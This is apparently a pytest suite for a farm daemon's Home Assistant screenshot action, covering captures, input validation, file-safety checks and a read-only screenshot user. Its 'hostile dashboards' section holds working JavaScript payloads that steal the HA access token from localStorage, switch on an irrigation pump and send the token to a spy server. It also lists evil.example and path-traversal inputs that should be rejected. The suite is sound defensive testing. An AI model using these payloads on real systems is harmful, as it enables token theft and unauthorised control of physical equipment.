"""ha_capture_screenshot against the session's real Home Assistant, driving Debian's real Chromium."""

from __future__ import annotations

import asyncio
import dataclasses
import json
import logging
import os
import socket
import struct
import threading
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from farmhost_testing import Daemon, clean_env, drop, wait_for, wait_result
from ha_fixture import HaInstance, WsSession

from farmhost.config import Settings, build_config
from farmhost.errors import FarmhostError, InvalidRequest, NotAllowed, NotFound, Unavailable
from farmhost.farm.dashboards import policy as dashboard_policy
from farmhost.farm.dashboards.lovelace import url_path
from farmhost.farm.dashboards.screenshots import CHROMIUM_PATH, capture, ha_capture_screenshot, ha_user, parse_params
from farmhost.farm.dashboards.screenshots.files import open_screenshots_dir, write_png
from farmhost.farm.dashboards.screenshots.ha_user import USER_NAME
from farmhost.farm.deps import FarmDeps
from farmhost.farm.homeassistant.client import HAClient
from farmhost.handling import RequestContext
from farmhost.layout import DataLayout
from farmhost.protocol.codes import ErrorCode
from farmhost.protocol.params import HaCaptureScreenshotParams
from farmhost.protocol.params import parse_params as parse_action_params
from farmhost.store.db import Database
from farmhost.store.groups import Group, get_group, insert_group

ACTION = "ha_capture_screenshot"
DASHBOARD = "shots"  # url path farmhost-shots: the test's own, so other tests' dashboards never change the picture
NOW = datetime(2026, 5, 17, 6, 30, tzinfo=UTC)
MAIN_GROUP: dict[str, Any] = {
    "jid": "telegram:100",
    "name": "Farm office",
    "folder": "main",
    "trigger": None,
    "requires_trigger": False,
    "is_main": True,
    "added_at": NOW,
}
MIN_PNG_BYTES = 10_000  # a nearly blank 1280x800 page is ~6 KB; this dashboard ~45 KB


@dataclass
class Spy:
    """A real HTTP server on another origin: any request reaching it escaped the screenshot's origin filter."""

    port: int
    hits: list[str]
    during: list[str]  # the test that was running when each hit came, to name the one that let it through


@pytest.fixture(scope="module")
def spy() -> Iterator[Spy]:
    hits: list[str] = []
    during: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            during.append(os.environ.get("PYTEST_CURRENT_TEST", "?"))
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield Spy(port=server.server_address[1], hits=hits, during=during)
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def dashboard(ha: HaInstance, spy: Spy) -> str:
    """The storage dashboard `shots` in HA: two views, three cards, and a markdown image from another origin."""
    ha.ensure_running()
    config = {
        "title": "Screenshot test",
        "views": [
            {
                "title": "Overview",
                "path": "overview",
                "cards": [
                    {
                        "type": "entities",
                        "title": "Field 1",
                        "entities": [
                            "sensor.field_1_soil_moisture",
                            "sensor.air_temperature",
                            "switch.irrigation_pump",
                        ],
                    },
                    {"type": "gauge", "entity": "sensor.field_1_soil_moisture", "name": "Soil moisture"},
                    {
                        "type": "markdown",
                        "content": f'## Screenshot test\n<img src="http://127.0.0.1:{spy.port}/spy.gif">',
                    },
                ],
            },
            {
                "title": "Irrigation",
                "path": "irrigation",
                "cards": [{"type": "entities", "entities": ["switch.irrigation_pump"]}],
            },
        ],
    }
    with ha.ws() as ws:
        listed = ws.command("lovelace/dashboards/list")["result"]
        if not any(d["url_path"] == url_path(DASHBOARD) for d in listed):
            created = ws.command(
                "lovelace/dashboards/create", url_path=url_path(DASHBOARD), title="Shots", mode="storage"
            )
            assert created["success"], created
        saved = ws.command("lovelace/config/save", url_path=url_path(DASHBOARD), config=config)
        assert saved["success"], saved
    return DASHBOARD


class Farm:
    """A data dir with the `main` group, and the real deps and request context the router gives an action."""

    def __init__(self, root: Path, ha_url: str | None, ha_token: str | None) -> None:
        self.layout = DataLayout(root)
        self.layout.create_group("main")
        self.db = Database.open(root)
        with self.db.tx() as conn:
            if get_group(conn, "main") is None:
                insert_group(conn, Group(**MAIN_GROUP))
            group = get_group(conn, "main")
        assert group is not None
        self.group = group
        settings = {"data_dir": root, "ha_url": ha_url, "ha_token": ha_token}
        self.settings = build_config(Settings(**settings, _env_file=None)).farm  # type: ignore[call-arg]
        self.deps = FarmDeps(settings=self.settings, layout=self.layout, ha=None, dashboards_dir=root / "dashboards")
        self.workspace = self.layout.workspace("main")

    def ctx(self, request_id: str) -> RequestContext:
        return RequestContext(group=self.group, layout=self.layout, db=self.db, now=NOW, request_id=request_id)

    async def shoot(self, request_id: str, **params: Any) -> dict[str, Any]:
        """The action, with a real HA client on the admin token as the daemon has (none when HA is not set)."""
        url, token = self.settings.ha.url, self.settings.ha.token
        if not (url and token):
            checked = parse_action_params(HaCaptureScreenshotParams, params, "ha_capture_screenshot")
            return await ha_capture_screenshot(self.deps, self.ctx(request_id), checked)  # type: ignore[no-any-return]
        async with HAClient(url=url, token=token) as ha:
            checked = parse_action_params(HaCaptureScreenshotParams, params, "ha_capture_screenshot")
            result: dict[str, Any] = await ha_capture_screenshot(
                dataclasses.replace(self.deps, ha=ha), self.ctx(request_id), checked
            )
        return result


@pytest.fixture
def make_farm(tmp_path: Path) -> Iterator[Callable[..., Farm]]:
    """Farm(ha_url, ha_token) on this test's data dir; databases closed at the end."""
    farms: list[Farm] = []

    def make(ha_url: str | None, ha_token: str | None) -> Farm:
        farms.append(Farm(tmp_path / "data", ha_url, ha_token))
        return farms[-1]

    yield make
    for f in farms:
        f.db.close()


@pytest.fixture
def farm(make_farm: Callable[..., Farm], ha: HaInstance) -> Farm:
    ha.ensure_running()  # an earlier test may have stopped the session's HA
    return make_farm(ha.url, ha.farmhost_token)


def png_header(path: Path) -> tuple[int, int]:
    data = path.read_bytes()[:24]
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and data[12:16] == b"IHDR", data
    width, height = struct.unpack(">II", data[16:24])
    return width, height


def files_under(root: Path) -> set[Path]:
    return set(root.rglob("*"))


# ------------------------------------------------------------------------------------------------ real captures


async def test_capture_saves_the_logged_in_dashboard_in_the_workspace(
    farm: Farm, dashboard: str, spy: Spy, ha: HaInstance
) -> None:
    result = await farm.shoot("shot-1", dashboard=dashboard)

    assert result["path"] == "screenshots/shots-20260517T063000Z-shot-1.png"
    assert result["urlPath"] == "/farmhost-shots"
    assert result["matched"] == 3, "the dashboard's three cards were in the page, so it is not HA's login page"
    saved = farm.workspace / result["path"]
    assert saved.is_file() and not saved.is_symlink()
    assert saved.resolve().is_relative_to(farm.workspace.resolve())
    assert png_header(saved) == (1280, 800) == (result["width"], result["height"])
    assert saved.stat().st_size == result["bytes"] > MIN_PNG_BYTES
    assert not [p.name for p in saved.parent.iterdir() if p.name.startswith(".")], "no temp file left behind"
    assert spy.hits == [], "the markdown card's image on another origin was blocked"
    assert all(ha.farmhost_token.encode() not in p.read_bytes() for p in files_under(farm.workspace) if p.is_file())


async def test_view_size_zoom_and_selector(farm: Farm, dashboard: str) -> None:
    result = await farm.shoot(
        "shot-2",
        dashboard=dashboard,
        view="irrigation",
        width=1000,
        height=700,
        zoom=1.5,
        waitMs=50,
        selector="hui-entities-card",
    )

    assert result["path"] == "screenshots/shots-irrigation-20260517T063000Z-shot-2.png"
    assert result["urlPath"] == "/farmhost-shots/irrigation"
    assert result["matched"] == 1
    assert png_header(farm.workspace / result["path"]) == (1000, 700) == (result["width"], result["height"])


def test_through_the_daemon_main_gets_a_picture_and_other_groups_are_refused(
    data_dir: Path, ha_env: dict[str, str], dashboard: str
) -> None:
    daemon = Daemon(data_dir, env=clean_env(**ha_env)).start()
    try:
        params = {"dashboard": dashboard, "view": "overview", "width": 800, "height": 600}
        for folder, rid in (("field", "shot-field"), ("main", "shot-main")):
            drop(
                data_dir,
                folder,
                "actions",
                {"type": "farm_action", "requestId": rid, "action": ACTION, "params": params},
            )
        refused = wait_result(data_dir, "field", "shot-field", timeout=20)
        done = wait_result(data_dir, "main", "shot-main", timeout=45)
    finally:
        assert daemon.stop() == 0, daemon.log()

    assert (refused["status"], refused["errorCode"]) == ("error", "unauthorized"), refused
    assert not (data_dir / "groups" / "field" / "screenshots").exists()
    assert done["status"] == "success", done
    result = done["result"]
    assert result["path"].startswith("screenshots/shots-overview-") and result["path"].endswith("-shot-main.png")
    assert (result["width"], result["height"], result["urlPath"], result["matched"]) == (
        800,
        600,
        "/farmhost-shots/overview",
        3,
    )
    saved = data_dir / "groups" / "main" / result["path"]
    assert png_header(saved) == (800, 600) and saved.stat().st_size == result["bytes"]
    audit = [json.loads(line) for line in (data_dir / "farm-state" / "audit.ndjson").read_text().splitlines()]
    assert sorted((a["group"], a["requestId"], a["action"], a["status"], a["errorCode"]) for a in audit) == [
        ("field", "shot-field", ACTION, "error", "unauthorized"),
        ("main", "shot-main", ACTION, "success", None),
    ]


@pytest.mark.parametrize(
    ("params", "error", "message"),
    [
        ({"dashboard": "nothing-here"}, NotFound, "no dashboard at /farmhost-nothing-here"),
        (
            {"dashboard": DASHBOARD, "view": "cellar"},
            NotFound,
            "no view 'cellar'; its views are ['overview', 'irrigation']",
        ),
    ],
    ids=["unknown-dashboard", "unknown-view"],
)
async def test_unknown_dashboard_or_view_is_not_found(
    farm: Farm, dashboard: str, params: dict[str, Any], error: type[FarmhostError], message: str
) -> None:
    with pytest.raises(error) as caught:
        await farm.shoot("shot-missing", **params)
    assert message in caught.value.message
    assert not any((farm.workspace / "screenshots").iterdir())


async def test_a_refused_screenshot_token_shows_the_login_page_and_is_an_upstream_error(
    tmp_path: Path, ha: HaInstance, dashboard: str
) -> None:
    ha.ensure_running()
    with pytest.raises(FarmhostError) as caught:
        await capture(
            chromium=CHROMIUM_PATH,
            base_url=ha.url,
            token="not.a.token",
            workspace=tmp_path,
            name="x.png",
            shot=parse_params({"dashboard": dashboard}),
        )
    assert caught.value.code is ErrorCode.UPSTREAM_ERROR
    assert "login page" in caught.value.message
    assert not any((tmp_path / "screenshots").iterdir())


async def test_a_refused_admin_token_is_an_upstream_error_naming_ha_token(
    make_farm: Callable[..., Farm], ha: HaInstance, dashboard: str
) -> None:
    ha.ensure_running()
    farm = make_farm(ha.url, "not.a.token")
    with pytest.raises(FarmhostError, match="HA_TOKEN") as caught:
        await farm.shoot("shot-badtoken", dashboard=dashboard)
    assert caught.value.code is ErrorCode.UPSTREAM_ERROR
    assert not any((farm.workspace / "screenshots").iterdir())


async def test_home_assistant_down_is_upstream_unavailable(make_farm: Callable[..., Farm]) -> None:
    with socket.socket() as s:  # a port nobody listens on: HA is down
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    farm = make_farm(f"http://127.0.0.1:{port}", "token")
    with pytest.raises(Unavailable, match="did not answer") as caught:
        await farm.shoot("shot-down", dashboard=DASHBOARD)
    assert str(port) not in caught.value.message, "HA's address is not shown to the agent"


# ------------------------------------------------------------------------------------------------ refusals (no browser)


@pytest.mark.parametrize(
    "params",
    [
        {"dashboard": "http://evil.example/lovelace"},
        {"dashboard": "//evil.example"},
        {"dashboard": "../config"},
        {"dashboard": "farm?edit=1"},
        {"dashboard": "farm#x"},
        {"dashboard": "farm\\x"},
        {"dashboard": "Farm"},
        {"dashboard": ""},
        {"dashboard": 7},
        {"view": "../../developer-tools"},
        {"view": "https://evil.example"},
        {"view": "a/b"},
        {"view": "x?y"},
        {"selector": "a >> text=secret"},
        {"selector": "xpath=//script"},
        {"selector": "a\\62"},
        {"selector": "a{color:red}"},
        {"selector": "x" * 201},
        {"selector": ""},
        {"width": 319},
        {"width": 3841},
        {"width": "1280"},
        {"width": True},
        {"height": 239},
        {"height": 2161},
        {"zoom": 0.4},
        {"zoom": 3.5},
        {"zoom": float("nan")},
        {"waitMs": -1},
        {"waitMs": 15001},
        {"url": "http://evil.example"},
    ],
)
def test_bad_params_are_invalid_requests(params: dict[str, Any]) -> None:
    with pytest.raises(InvalidRequest):
        parse_params(params)


async def test_an_absolute_url_is_refused_before_anything_is_written(make_farm: Callable[..., Farm]) -> None:
    farm = make_farm("http://127.0.0.1:9", "token")
    before = files_under(farm.layout.root)
    with pytest.raises(InvalidRequest, match="never a path"):
        await farm.shoot("shot-url", dashboard="http://evil.example/lovelace")
    assert files_under(farm.layout.root) == before


def test_a_valid_css_selector_and_the_limits_pass() -> None:
    shot = parse_params(
        {"width": 320, "height": 2160, "zoom": 3, "waitMs": 15000, "selector": "hui-card:nth-child(2) > .title[x='y']"}
    )
    assert (shot.width, shot.height, shot.zoom, shot.wait_ms) == (320, 2160, 3.0, 15000)
    assert shot.url_path == "/farmhost-farm"


async def test_symlinked_screenshots_dir_is_refused_and_nothing_is_written_outside(
    make_farm: Callable[..., Farm], tmp_path: Path
) -> None:
    farm = make_farm("http://127.0.0.1:9", "token")
    outside = tmp_path / "outside"
    outside.mkdir()
    (farm.workspace / "screenshots").symlink_to(outside)
    with pytest.raises(NotAllowed, match="symlink"):
        await farm.shoot("shot-link", dashboard=DASHBOARD)
    assert list(outside.iterdir()) == []


def test_screenshots_dir_is_created_and_a_file_in_its_place_is_refused(tmp_path: Path) -> None:
    fd = open_screenshots_dir(tmp_path)
    os.close(fd)
    assert (tmp_path / "screenshots").is_dir()
    other = tmp_path / "other"
    other.mkdir()
    (other / "screenshots").write_text("not a directory")
    with pytest.raises(NotAllowed):
        open_screenshots_dir(other)
    with pytest.raises(NotFound):
        open_screenshots_dir(tmp_path / "missing")


def test_write_png_never_replaces_a_link_or_directory(tmp_path: Path) -> None:
    shots = tmp_path / "screenshots"
    shots.mkdir()
    target = tmp_path / "precious.txt"
    target.write_text("keep me")
    (shots / "link.png").symlink_to(target)
    (shots / "dir.png").mkdir()
    (shots / "old.png").write_bytes(b"old")
    fd = os.open(shots, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for name in ("link.png", "dir.png"):
            with pytest.raises(NotAllowed, match="not a regular file"):
                write_png(fd, name, b"\x89PNG new")
        write_png(fd, "old.png", b"\x89PNG new")
    finally:
        os.close(fd)
    assert target.read_text() == "keep me" and (shots / "link.png").is_symlink()
    assert (shots / "dir.png").is_dir()
    assert (shots / "old.png").read_bytes() == b"\x89PNG new"
    assert sorted(p.name for p in shots.iterdir()) == ["dir.png", "link.png", "old.png"], "no temp file left"


async def test_missing_chromium_says_how_to_install_it(tmp_path: Path) -> None:
    with pytest.raises(Unavailable, match="apt-get install chromium") as caught:
        await capture(
            chromium=tmp_path / "no-chromium",
            base_url="http://127.0.0.1:9",
            token="t",
            workspace=tmp_path,
            name="x.png",
            shot=parse_params({}),
        )
    assert caught.value.code is ErrorCode.UPSTREAM_UNAVAILABLE
    assert Path("/usr/bin/chromium") == CHROMIUM_PATH


async def test_home_assistant_not_configured_is_unavailable(make_farm: Callable[..., Farm]) -> None:
    farm = make_farm(None, None)
    with pytest.raises(Unavailable, match="not configured"):
        await farm.shoot("shot-off")


# ------------------------------------------------------------------------------------------------ the read-only user


def screenshot_users(ha: HaInstance) -> list[dict[str, Any]]:
    with ha.ws() as ws:
        return [u for u in ws.command("config/auth/list")["result"] if u["name"] == USER_NAME]


def call_service_with(ha: HaInstance, token: str) -> dict[str, Any]:
    """switch.turn_on on the pump, sent to HA itself with `token` (no farmhost in between)."""
    with WsSession(ha.ws_url, token) as ws:
        return ws.command(
            "call_service", domain="switch", service="turn_on", target={"entity_id": "switch.irrigation_pump"}
        )


async def test_the_screenshot_user_is_read_only_created_once_reused_and_recreated_when_removed(
    farm: Farm, dashboard: str, ha_reset: HaInstance
) -> None:
    ha = ha_reset
    with ha.ws() as ws:  # an earlier test may have made one: start from none
        for user in screenshot_users(ha):
            ws.command("config/auth/delete", user_id=user["id"])

    await farm.shoot("user-1", dashboard=dashboard)
    first = ha_user.load(farm.db)
    await farm.shoot("user-2", dashboard=dashboard)

    assert first is not None and ha_user.load(farm.db) == first, "the second capture reused the user and token"
    [user] = screenshot_users(ha)
    assert user["id"] == first.user_id
    assert (user["group_ids"], user["local_only"], user["is_owner"]) == (["system-read-only"], True, False)
    refused = call_service_with(ha, first.token)
    assert refused["success"] is False and refused["error"]["code"] in {"unauthorized", "home_assistant_error"}
    assert ha.get_state("switch.irrigation_pump")["state"] == "off", "HA itself refused the screenshot token"
    assert first.token != ha.farmhost_token

    with ha.ws() as ws:  # the operator removes it in HA: the next capture makes a new one
        assert ws.command("config/auth/delete", user_id=first.user_id)["success"]
    await farm.shoot("user-3", dashboard=dashboard)
    second = ha_user.load(farm.db)
    assert second is not None and second.user_id != first.user_id and second.token != first.token
    assert [u["id"] for u in screenshot_users(ha)] == [second.user_id]


# ------------------------------------------------------------------------------------------------ hostile dashboards

JS_IFRAME = (
    "javascript:(async()=>{const t=JSON.parse(localStorage.hassTokens).access_token;"
    "await fetch('/api/services/switch/turn_on',{method:'POST',headers:{Authorization:'Bearer '+t},"
    "body:JSON.stringify({entity_id:'switch.irrigation_pump'})});"
    "const w=new WebSocket('ws://'+location.host+'/api/websocket');w.onmessage=m=>{"
    "if(JSON.parse(m.data).type==='auth_required'){w.send(JSON.stringify({type:'auth',access_token:t}));"
    "w.send(JSON.stringify({id:1,type:'call_service',domain:'switch',service:'turn_on',"
    "target:{entity_id:'switch.irrigation_pump'}}))}};new Image().src='http://127.0.0.1:SPY/?t='+t})()"
)
EVIL_CARD_JS = """
class EvilCard extends HTMLElement {
  setConfig(config) {}
  getCardSize() { return 1; }
  set hass(hass) {
    if (this.started) return;
    this.started = true;
    const token = JSON.parse(localStorage.hassTokens).access_token;
    const pump = {entity_id: 'switch.irrigation_pump'};
    Promise.allSettled([
      hass.callService('switch', 'turn_on', pump),
      hass.connection.sendMessagePromise({type: 'call_service', domain: 'switch', service: 'turn_on', target: pump}),
      fetch('/api/services/switch/turn_on', {method: 'POST', headers: {Authorization: 'Bearer ' + token},
                                             body: JSON.stringify(pump)}),
      fetch('http://127.0.0.1:SPY/exfil?t=' + token),
      fetch('/api/', {headers: {Authorization: 'Bearer ' + token}}),
    ]).then(() => { this.innerHTML = '<div class="ran">evil card ran</div>'; });
  }
}
customElements.define('evil-card', EvilCard);
"""


def save_dashboard(ha: HaInstance, name: str, cards: list[dict[str, Any]]) -> None:
    """A dashboard made in HA directly (not through farmhost), as another HA user could."""
    with ha.ws() as ws:
        if not any(d["url_path"] == url_path(name) for d in ws.command("lovelace/dashboards/list")["result"]):
            assert ws.command("lovelace/dashboards/create", url_path=url_path(name), title=name, mode="storage")[
                "success"
            ]
        assert ws.command(
            "lovelace/config/save", url_path=url_path(name), config={"views": [{"path": "v", "cards": cards}]}
        )["success"]


async def test_a_javascript_iframe_made_in_ha_is_refused_and_changes_nothing(
    farm: Farm, ha_reset: HaInstance, spy: Spy
) -> None:
    cards = [{"type": "iframe", "url": JS_IFRAME.replace("SPY", str(spy.port)), "aspect_ratio": "50%"}]
    save_dashboard(ha_reset, "hostile", cards)
    policy_refuses = bool(dashboard_policy.violations({"views": [{"cards": cards}]}, dashboard_policy.ContentRules()))
    try:
        await farm.shoot("hostile-1", dashboard="hostile", selector="hui-iframe-card")
        refused = False
    except NotAllowed as err:
        refused = True
        assert "Home Assistant's dashboard '/farmhost-hostile'" in err.message
    assert ha_reset.get_state("switch.irrigation_pump")["state"] == "off"
    assert spy.hits == [], spy.during
    assert refused or not policy_refuses, "the content policy refuses a javascript: iframe URL"


@pytest.mark.timeout(120)  # the first use restarts HA so that it serves www/ as /local/ (~10-20 s on a busy host)
async def test_a_listed_custom_card_acting_through_the_frontend_changes_nothing(
    farm: Farm, ha_reset: HaInstance, spy: Spy, caplog: pytest.LogCaptureFixture
) -> None:
    ha = ha_reset
    www = ha.config_dir / "www"
    if not www.is_dir():  # HA serves /local/ only when www/ existed at its start
        www.mkdir()
        ha.restart()
    (www / "evil-card.js").write_text(EVIL_CARD_JS.replace("SPY", str(spy.port)))
    with ha.ws() as ws:
        resources = ws.command("lovelace/resources")["result"]
        if not any(r["url"] == "/local/evil-card.js" for r in resources):
            assert ws.command("lovelace/resources/create", res_type="module", url="/local/evil-card.js")["success"]
    farm.settings.profile_path.write_text(json.dumps({"policy": {"dashboards": {"customCards": ["custom:evil-card"]}}}))
    save_dashboard(ha, "evil", [{"type": "custom:evil-card"}])
    caplog.set_level(logging.WARNING, logger="farmhost.farm.dashboards.screenshots.confine")

    try:
        result: dict[str, Any] | None = await farm.shoot("evil-1", dashboard="evil", selector="evil-card .ran")
    except NotAllowed:  # the profile's customCards did not open the card: refused before any browser
        result = None

    assert ha.get_state("switch.irrigation_pump")["state"] == "off"
    assert spy.hits == [], spy.during
    if result is not None:
        assert result["matched"] == 1, "the card ran every attempt before the picture"
        logged = " | ".join(r.getMessage() for r in caplog.records)
        assert "the WebSocket command 'call_service'" in logged and "a POST request" in logged, logged
    account = ha_user.load(farm.db)
    assert account is not None and account.token != ha.farmhost_token, "the browser held the screenshot user's token"
    assert call_service_with(ha, account.token)["success"] is False


async def test_a_capture_that_ends_early_lets_no_request_out_while_the_browser_closes(
    farm: Farm, ha: HaInstance, spy: Spy
) -> None:
    """Images to another origin pending when a capture ends (here: an unknown view) must not go out as it closes.

    An agent writes dashboards: an image URL on another host that carried data would be a way out of a sandbox that
    has no network. A CI run once saw the module's spy hit while a capture of an unknown view closed its browser.
    """
    images = "".join(f'<img src="http://127.0.0.1:{spy.port}/leak-{n}.gif">' for n in range(80))
    save_dashboard(ha, "leaky", [{"type": "markdown", "content": f"## Leaky\n{images}"}])
    before = len(spy.hits)
    for attempt in range(4):
        with pytest.raises(NotFound):
            await farm.shoot(f"leaky-{attempt}", dashboard="leaky", view="cellar")
    # The browsers are gone; a request of ours now queues behind anything they sent, so once the spy has ours it
    # has taken theirs too.
    await asyncio.to_thread(lambda: urllib.request.urlopen(f"http://127.0.0.1:{spy.port}/settled", timeout=10).close())
    wait_for(lambda: "/settled" in spy.hits, what="the spy to take our own request")
    assert [hit for hit in spy.hits[before:] if hit != "/settled"] == [], spy.during[before:]
